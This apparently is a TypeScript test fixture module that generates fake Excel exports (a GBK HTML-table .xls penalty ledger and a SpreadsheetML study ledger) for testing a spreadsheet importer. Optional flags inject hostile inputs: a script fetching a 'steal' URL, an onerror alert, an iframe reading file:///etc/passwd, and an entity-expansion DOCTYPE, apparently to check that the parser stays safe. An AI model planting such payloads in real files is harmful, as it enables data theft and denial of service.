/**
 * "Excel" files that are not workbooks, as government systems export them, built by code: an
 * HTML table saved as `.xls` (GBK, `<meta charset=gb2312>`, Excel's namespaces and its worksheet
 * name comment, a title merged across, a two-row header with rowspan/colspan, text cells marked
 * `mso-number-format:'\@'`) and an XML Spreadsheet 2003.
 */
import iconv from 'iconv-lite';

/** The penalty ledger's data rows as written in the HTML (案件编号 … 罚款金额). */
export const PENALTY_ROWS = [
  ['0012', '2020-03-05', '张三', '占道经营', '2020-03-10', '否', '', '2020-03-20', '1,200'],
  ['0013', '2020/4/1', '李&amp;王', '违规<br>搭建', '2020-04-08', '是', '2020-04-09', '2020-04-15', '5000'],
  ['0014', '2020-13-45', '赵六', '噪声扰民', '2020-05-10', '否', '', '2020-05-18', '800'],
  ['0015', '2020年6月2日', '钱七', '无照经营', '2020-06-05', '否', '', '2020-06-12', '三千'],
  ['0016', '2020.7.1', '孙八', '乱倒垃圾', '2020-07-03', '否', '', '2020-07-09', '200'],
] as const;

/**
 * 行政处罚案件台账 as an HTML table in GBK: row 1 a title merged across (A1:I1), row 2 填报单位,
 * rows 3–4 a two-row header (法制审核 over 法制审核日期 and 是否重大执法决定), data from row 5.
 * 0012 is text by its class, 0013 by its inline style; the third row's 立案日期 (B7) is no date.
 */
export function penaltyHtml(opts: { charset?: 'gb2312' | 'utf-8'; scripts?: boolean; breaks?: boolean } = {}): Buffer {
  const charset = opts.charset ?? 'gb2312';
  const cell = (raw: string, i: number, r: number) => {
    // LibreOffice (and Excel) take a plain <br> as a new row: left out where they are compared.
    const v = opts.breaks === false ? raw.replace('<br>', '') : raw;
    if (i === 0) return r === 1 ? `<td style="mso-number-format:'\\@'">${v}</td>` : `<td class=xl65>${v}</td>`;
    if (i === 8 && /^[\d,]+$/.test(v)) return `<td class=xl67 x:num="${v.replace(/,/g, '')}">${v}</td>`;
    return `<td>${v}</td>`;
  };
  const hostile = opts.scripts
    ? `<script>fetch('http://127.0.0.1:9/steal'); document.write('<table><tr><td>注入</td></tr></table>')</script>
<link rel=stylesheet href="http://127.0.0.1:9/evil.css"><img src="http://127.0.0.1:9/x.png" onerror="alert(1)">
<iframe src="file:///etc/passwd"></iframe>`
    : '';
  const html = `<html xmlns:v="urn:schemas-microsoft-com:vml"
xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:x="urn:schemas-microsoft-com:office:excel"
xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv=Content-Type content="text/html; charset=${charset}">
<meta name=ProgId content=Excel.Sheet>
<style>
.xl65 {mso-number-format:"\\@";}
.xl67 {mso-number-format:"\\#\\,\\#\\#0";}
</style>
<!--[if gte mso 9]><xml>
 <x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet>
 <x:Name>行政处罚案件台账</x:Name>
 <x:WorksheetOptions><x:Selected/></x:WorksheetOptions>
 </x:ExcelWorksheet></x:ExcelWorksheets></x:ExcelWorkbook>
</xml><![endif]-->
${hostile}
</head>
<body link=blue vlink=purple>
<table border=0 cellpadding=0 cellspacing=0 width=900 style='border-collapse:collapse;table-layout:fixed'>
 <col width=80 span=9>
 <tr height=30>
  <td colspan=9 height=30 class=xl70 width=720>安定镇2020年行政处罚案件台账</td>
 </tr>
 <tr><td colspan=9>填报单位：综合执法队</td></tr>
 <tr>
  <th rowspan=2>案件编号</th><th rowspan=2>立案日期</th><th rowspan=2>当事人</th><th rowspan=2>案由</th>
  <th colspan=2>法制审核</th>
  <th rowspan=2>集体讨论日期</th><th rowspan=2>决定日期</th><th rowspan=2>罚款金额(元)</th>
 </tr>
 <tr><th>法制审核日期</th><th>是否重大执法决定</th></tr>
${PENALTY_ROWS.map((row, r) => ` <tr>${row.map((v, i) => cell(v, i, r)).join('')}</tr>`).join('\n')}
 <![if supportMisalignedColumns]><tr height=0 style='display:none'><td width=80></td></tr><![endif]>
</table>
</body>
</html>
`;
  return charset === 'gb2312' ? iconv.encode(html, 'gbk') : Buffer.from(html, 'utf8');
}

/** The study ledger rows of {@link studySpreadsheetMl}: 日期, 类别, 主题, 组织部门, 参加人数. */
export const STUDY_ROWS = [
  ['2020-01-16', '会前学法', '学习《中华人民共和国宪法》', '党政办', 21],
  ['2020-04-23', '机关干部学法', '《北京市生活垃圾管理条例》解读', '综合执法队', 65],
  ['2020-05-13', '机关干部学法', '《北京市物业管理条例》解读', undefined, 58],
  ['2020-06-28', '会前学法', '学习《中华人民共和国民法典》', '综合保障办', 18],
  ['2020-09-10', '机关干部学法', '行政执法三项制度', '司法所', '若干'],
] as const;

/**
 * 学法活动台账 as SpreadsheetML 2003: sheet 学法活动 (a title merged A1:E1, the header on row 2,
 * data from row 3; a blank row 6 skipped with `ss:Index="7"`; 组织部门 of row 5 left out with a
 * cell `ss:Index`; 参加人数 of the last row the text 若干), a hidden sheet 草稿, and a date style
 * on a Number cell.
 */
export function studySpreadsheetMl(opts: { doctype?: boolean } = {}): Buffer {
  const rowXml = (row: (typeof STUDY_ROWS)[number], i: number) => {
    const [date, kind, topic, org, count] = row;
    const index = i >= 3 ? ` ss:Index="${i + 4}"` : '';
    const orgCell = org === undefined ? '' : `<Cell><Data ss:Type="String">${org}</Data></Cell>`;
    const countCell =
      typeof count === 'number'
        ? `<Cell${org === undefined ? ' ss:Index="5"' : ''}><Data ss:Type="Number">${count}</Data></Cell>`
        : `<Cell><Data ss:Type="String">${count}</Data></Cell>`;
    return `   <Row${index}><Cell ss:StyleID="d"><Data ss:Type="DateTime">${date}T00:00:00.000</Data></Cell><Cell><Data ss:Type="String">${kind}</Data></Cell><Cell><Data ss:Type="String">${topic.replace(/&/g, '&amp;')}</Data></Cell>${orgCell}${countCell}</Row>`;
  };
  const doctype = opts.doctype ? '<!DOCTYPE Workbook [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>\n' : '';
  const xml = `<?xml version="1.0" encoding="UTF-8"?>
${doctype}<?mso-application progid="Excel.Sheet"?>
<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"
 xmlns:o="urn:schemas-microsoft-com:office:office"
 xmlns:x="urn:schemas-microsoft-com:office:excel"
 xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"
 xmlns:html="http://www.w3.org/TR/REC-html40">
 <Styles>
  <Style ss:ID="Default" ss:Name="Normal"><Alignment ss:Vertical="Center"/></Style>
  <Style ss:ID="d"><NumberFormat ss:Format="yyyy\\-mm\\-dd"/></Style>
 </Styles>
 <Worksheet ss:Name="学法活动">
  <Table ss:ExpandedColumnCount="5" x:FullColumns="1" x:FullRows="1">
   <Column ss:Width="80"/>
   <Row><Cell ss:MergeAcross="4"><Data ss:Type="String">安定镇2020年学法活动台账${opts.doctype ? '&lol2;' : ''}</Data></Cell></Row>
   <Row><Cell><Data ss:Type="String">日期</Data></Cell><Cell><Data ss:Type="String">类别</Data></Cell><Cell><Data ss:Type="String">主题</Data></Cell><Cell><Data ss:Type="String">组织部门</Data></Cell><Cell><Data ss:Type="String">参加人数</Data></Cell></Row>
${STUDY_ROWS.map(rowXml).join('\n')}
  </Table>
  <WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Selected/></WorksheetOptions>
 </Worksheet>
 <Worksheet ss:Name="草稿">
  <Table><Row><Cell><Data ss:Type="String">草稿，勿计</Data></Cell></Row></Table>
  <WorksheetOptions xmlns="urn:schemas-microsoft-com:office:excel"><Visible>SheetHidden</Visible></WorksheetOptions>
 </Worksheet>
</Workbook>
`;
  return Buffer.from(xml, 'utf8');
}
